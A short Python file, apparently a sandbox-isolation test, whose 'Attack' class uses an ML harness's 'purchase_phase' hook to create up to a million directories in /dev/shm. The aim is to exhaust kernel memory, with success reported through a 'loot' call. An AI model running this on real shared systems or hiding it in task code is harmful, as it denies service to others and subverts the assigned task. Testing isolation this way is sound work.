"""Makes a million empty folders in /dev/shm, where that is its room's own: each takes a kibibyte of the kernel's memory."""

import os
import time

from aim import HOME, children_do, loot

from run import ZEWDPCBaseRun

ROOM = HOME == "/scratch"
CHILDREN, FOLDERS = (4, 1_000_000) if ROOM else (1, 2_000)
PLACE = "/dev/shm" if ROOM else HOME


def make(number):
    os.mkdir(f"{PLACE}/{number}")
    top = os.open(f"{PLACE}/{number}", os.O_RDONLY)
    for folder in range(FOLDERS // CHILDREN):
        os.mkdir(str(folder), dir_fd=top)


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        children_do(make, CHILDREN)
        end = time.monotonic() + 9
        while time.monotonic() < end:
            time.sleep(0.2)
            made = sum(os.stat(f"{PLACE}/{number}").st_nlink for number in range(CHILDREN) if os.path.isdir(f"{PLACE}/{number}"))
            if not ROOM and made > 1_000:
                return
            if made > 400_000:
                time.sleep(1.5)  # for a moment it may be more
                loot(f"{made} folders")
                return
        print(made, flush=True)
